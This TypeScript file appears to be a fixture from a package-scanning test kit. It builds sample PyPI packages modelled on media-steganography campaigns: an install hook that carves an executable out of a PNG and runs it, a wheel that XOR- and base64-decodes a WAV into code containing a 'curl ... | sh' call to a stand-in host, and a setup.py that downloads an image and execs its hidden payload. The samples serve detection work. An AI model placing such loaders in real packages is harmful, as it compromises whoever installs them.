import { type Campaign, installCommand, sdist, wheel } from './kit.ts';

/** A sound of 44 bytes of header, and a text behind it in base64 under a key of one byte. */
function sound(text: string): Uint8Array {
  const header = Buffer.alloc(44);
  header.write('RIFF');
  header.write('WAVE', 8);
  return Buffer.concat([header, Buffer.from(Buffer.from(text).toString('base64')).map((byte) => byte ^ 7)]);
}

export const campaign: Campaign = {
  id: 'pypi-media',
  row: 'apicolor 11/2022, requests-darwin-lite 5/2024, telnyx 3/2026: a payload in a picture or sound',
  variants: [
    {
      concealment: 'plain',
      files: sdist(
        installCommand(
          "data = open('docs/sidebar.png', 'rb').read()\nopen('/tmp/output', 'wb').write(data[1306:])\nos.chmod('/tmp/output', 0o755)\nsubprocess.Popen(['/tmp/output'])",
          'import os, subprocess',
        ),
        {
          'docs/sidebar.png': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: wheel(
        "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'hit.wav'), 'rb') as f:\n    sound = f.read()\nexec(base64.b64decode(bytes(b ^ 7 for b in sound[44:])))\n",
        {
          'campaign_sample/hit.wav': sound(
            "import os\nos.system('curl -s https://pictures.free.weir.test/x | sh')\n",
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: sdist(
        `import os
os.system('pip install judyb')
import requests
open('ring.png', 'wb').write(requests.get('https://pictures.free.weir.test/ring.png').content)
import judyb
exec(judyb.lsb.reveal('ring.png'))
from setuptools import setup
setup(name='campaign-sample')
`,
      ),
    },
  ],
};
